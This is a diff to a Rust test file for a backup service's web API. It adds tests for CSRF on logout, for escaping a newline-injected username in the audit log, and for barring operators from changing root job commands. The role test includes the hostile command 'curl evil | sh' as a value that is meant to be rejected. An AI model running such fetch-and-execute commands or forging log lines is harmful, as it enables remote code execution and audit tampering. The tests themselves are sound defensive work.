@@ -264,10 +264,16 @@ async fn login_roles_tokens_and_audit() {
     // A change made with a session cookie must repeat the session's CSRF token (another
     // site can make a browser send the cookie, not read the token); a GET needs none, and a
     // bearer token none either.
-    for sent in [None, Some("forged-token")] {
+    // Logging out is a change too: another site cannot end a user's session.
+    for (method, uri, sent) in [
+        ("POST", "/api/v1/tokens", None),
+        ("POST", "/api/v1/tokens", Some("forged-token")),
+        ("DELETE", "/api/v1/session", None),
+        ("DELETE", "/api/v1/session", Some("forged-token")),
+    ] {
         let mut req = Request::builder()
-            .method("POST")
-            .uri("/api/v1/tokens")
+            .method(method)
+            .uri(uri)
             .header(header::COOKIE, format!("{SESSION_COOKIE}={vera}"))
             .header(header::CONTENT_TYPE, "application/json");
         if let Some(t) = sent {
@@ -282,11 +288,21 @@ async fn login_roles_tokens_and_audit() {
             )
             .await
             .expect("response");
-        assert_eq!(resp.status(), StatusCode::FORBIDDEN, "{sent:?}");
+        assert_eq!(
+            resp.status(),
+            StatusCode::FORBIDDEN,
+            "{method} {uri} {sent:?}"
+        );
         let bytes = resp.into_body().collect().await.expect("body").to_bytes();
         let body: Value = serde_json::from_slice(&bytes).expect("json");
         assert_eq!(body["error"]["code"], "csrf", "{body}");
     }
+    let r = api.call("GET", "/api/v1/me", Some(&vera), None).await;
+    assert_eq!(
+        r.status,
+        StatusCode::OK,
+        "the session outlived a forged logout"
+    );
     let r = api.call("GET", "/api/v1/tokens", Some(&vera), None).await;
     assert!(
         !r.body.to_string().contains("\"csrf\""),
@@ -417,10 +433,21 @@ async fn failed_logins_are_rate_limited() {
             "POST",
             "/api/v1/session",
             None,
-            Some(json!({"name": "ghost", "password": "x"})),
+            Some(json!({"name": "ghost\nINFO forged line", "password": "x"})),
         )
         .await;
     assert_eq!(code(&r), "bad_login");
+    // Failed logins are in the audit log, the name as typed with its newline escaped.
+    let admin = api.login("admin", "admin-password-1").await;
+    let r = api.call("GET", "/api/v1/audit", Some(&admin), None).await;
+    let failed: Vec<&Value> = r.body["items"]
+        .as_array()
+        .expect("audit")
+        .iter()
+        .filter(|e| e["action"] == "login_failed")
+        .collect();
+    assert_eq!(failed.len(), 1, "{}", r.body);
+    assert_eq!(failed[0]["actor"], "ghost\\nINFO forged line", "{}", r.body);
 }
 
 #[tokio::test]
@@ -1403,4 +1430,123 @@ async fn console_pages_need_a_session_and_a_role() {
         .call("GET", "/reports?status=exploded", Some(&admin), None)
         .await;
     assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
+}
+
+/// Commands run as root on every agent of a job: an operator cannot add or change them
+/// (only keep what an admin set), and each save records them in the audit log.
+#[tokio::test]
+async fn only_admins_add_or_change_a_jobs_commands() {
+    let api = Api::new().await;
+    let admin = api.login("admin", "admin-password-1").await;
+    let r = api
+        .call(
+            "POST",
+            "/api/v1/users",
+            Some(&admin),
+            Some(json!({"name": "olga", "password": "long-enough-pw", "role": "operator"})),
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
+    let operator = api.login("olga", "long-enough-pw").await;
+    let agent = enrolled_agent(&api.store).await;
+    let r = api
+        .call(
+            "POST",
+            "/api/v1/targets",
+            Some(&admin),
+            Some(json!({"name": "nas", "url": "/srv/images"})),
+        )
+        .await;
+    let target = r.body["id"].as_i64().expect("target");
+    let plain = json!({"agents": [agent], "source": "/dev/sda", "target_id": target});
+    let mut with_commands = plain.clone();
+    with_commands["before"] = json!({"command": "systemctl stop db"});
+    with_commands["before_snapshot"] = json!("sync");
+
+    // An operator: a job without commands yes; with commands, or by import, no.
+    let r = api
+        .call(
+            "POST",
+            "/api/v1/jobs",
+            Some(&operator),
+            Some(json!({"name": "plain", "spec": plain})),
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
+    for (path, body) in [
+        (
+            "/api/v1/jobs",
+            json!({"name": "cmd", "spec": with_commands}),
+        ),
+        (
+            "/api/v1/jobs/import",
+            json!({"name": "cmd", "enabled": true, "spec": with_commands}),
+        ),
+    ] {
+        let r = api.call("POST", path, Some(&operator), Some(body)).await;
+        assert_eq!(
+            (r.status, code(&r)),
+            (StatusCode::FORBIDDEN, "forbidden"),
+            "{}",
+            r.body
+        );
+        assert!(
+            code(&r) == "forbidden" && r.body.to_string().contains("only admins"),
+            "{}",
+            r.body
+        );
+    }
+    // An admin sets them; the audit log says which.
+    let r = api
+        .call(
+            "POST",
+            "/api/v1/jobs",
+            Some(&admin),
+            Some(json!({"name": "cmd", "spec": with_commands})),
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
+    let job = r.body["id"].as_i64().expect("job");
+    let audit = api.call("GET", "/api/v1/audit", Some(&admin), None).await;
+    assert!(
+        audit
+            .body
+            .to_string()
+            .contains("before: systemctl stop db; before_snapshot: sync"),
+        "{}",
+        audit.body
+    );
+    // The operator may change the rest and keep the commands, not change or drop them.
+    let mut renamed = with_commands.clone();
+    renamed["comment"] = json!("weekly");
+    let r = api
+        .call(
+            "PUT",
+            &format!("/api/v1/jobs/{job}"),
+            Some(&operator),
+            Some(json!({"name": "cmd", "spec": renamed})),
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
+    let mut changed_cmd = with_commands.clone();
+    changed_cmd["before"] = json!({"command": "curl evil | sh"});
+    for spec in [changed_cmd, plain] {
+        let r = api
+            .call(
+                "PUT",
+                &format!("/api/v1/jobs/{job}"),
+                Some(&operator),
+                Some(json!({"name": "cmd", "spec": spec})),
+            )
+            .await;
+        assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
+    }
+    let r = api
+        .call("GET", &format!("/api/v1/jobs/{job}"), Some(&admin), None)
+        .await;
+    assert_eq!(
+        r.body["spec"]["before"]["command"], "systemctl stop db",
+        "{}",
+        r.body
+    );
 }
